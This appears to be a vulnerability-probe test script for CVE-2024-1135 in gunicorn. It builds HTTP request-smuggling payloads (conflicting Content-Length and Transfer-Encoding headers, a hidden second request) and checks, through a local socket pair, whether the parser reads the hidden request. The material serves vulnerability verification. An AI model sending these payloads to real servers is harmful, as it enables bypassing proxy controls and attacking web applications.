# /// vertice-probe
# id = "GHSA-w3h3-4rj7-4ph4"
# aliases = ["CVE-2024-1135"]
# package = "gunicorn"
# summary = "Transfer-Encoding headers not understood are skipped, so server and proxy see different ends of a request."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:H/A:N" }]
# cwe = ["CWE-444"]
# kind = "request-smuggling"
# symbols = [
#   "gunicorn.app.base.BaseApplication",
#   "gunicorn.app.base.Application",
#   "gunicorn.app.wsgiapp",
#   "gunicorn.http.parser.RequestParser",
#   "gunicorn",
# ]
#
# [[affected]]
# package = "gunicorn"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "22.0.0" }] }]
#
# [cases]
# attack = "an unknown coding beside Content-Length is skipped and a hidden request gets through"
# [cases.variants]
# both_lengths = "chunked beside Content-Length is taken, the rest of the body is a hidden request"
# old_version = "chunked is taken in an HTTP/1.0 request that asks to keep the connection"
# [cases.controls]
# requests = "a chunked and a counted request over one connection are read"
#
# [test]
# vulnerable = "21.2.0"
# fixed = "22.0.0"
# ///
"""CVE-2024-1135: ambiguous Transfer-Encoding."""

import json
import socket
import sys
import warnings

warnings.simplefilter("ignore")
FOLLOWING = b"GET /hidden HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"


def read(data):
    """[(path, body)] of the requests that a worker reads from a connection with its default settings."""
    from gunicorn.config import Config
    from gunicorn.http.parser import RequestParser

    near, far = socket.socketpair()
    near.sendall(data)
    near.close()
    far.settimeout(10)
    got = []
    parser = RequestParser(Config(), far, ("127.0.0.1", 1))
    while True:
        try:
            request = next(parser)
        except StopIteration:
            return got
        got.append((request.path, request.body.read()))
        if request.should_close():
            return got


def read_and_look(head, body):
    from gunicorn.http.errors import ParseException

    try:
        got = read(head + b"\r\n" + body)
    except ParseException as error:
        if "coding" not in str(error).lower() and "Invalid HTTP Header" not in str(error):
            raise
        if read(b"GET /good HTTP/1.1\r\nHost: x\r\n\r\n") != [("/good", b"")]:
            return "error", "an ordinary request is not read either"
        return "blocked", "%s: %s" % (type(error).__name__, error)
    if "/hidden" in [path for path, _ in got]:
        return "exploited", "a second request hidden in the first was read: %s" % [path for path, _ in got]
    return "error", "read %r" % got


def attack():
    # who reads the chunks takes all of it for one request; who counts four bytes finds another behind them
    chunk = b"%x\r\n" % len(FOLLOWING)
    head = b"POST /front HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nTransfer-Encoding: gzip, chunked\r\n" % len(chunk)
    return read_and_look(head, chunk + FOLLOWING + b"\r\n0\r\n\r\n")


def both_lengths():
    body = b"0\r\n\r\n" + FOLLOWING
    head = b"POST /front HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n" % len(body)
    return read_and_look(head, body)


def old_version():
    body = b"0\r\n\r\n" + FOLLOWING
    head = b"POST /front HTTP/1.0\r\nHost: x\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n"
    return read_and_look(head, body)


def requests():
    got = read(
        b"POST /one HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n"
        b"POST /two HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\ndef"
    )
    good = got == [("/one", b"abc"), ("/two", b"def")]
    return ("works", "two requests read") if good else ("broken", repr(got))


CASES = {"attack": attack, "both_lengths": both_lengths, "old_version": old_version, "requests": requests}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
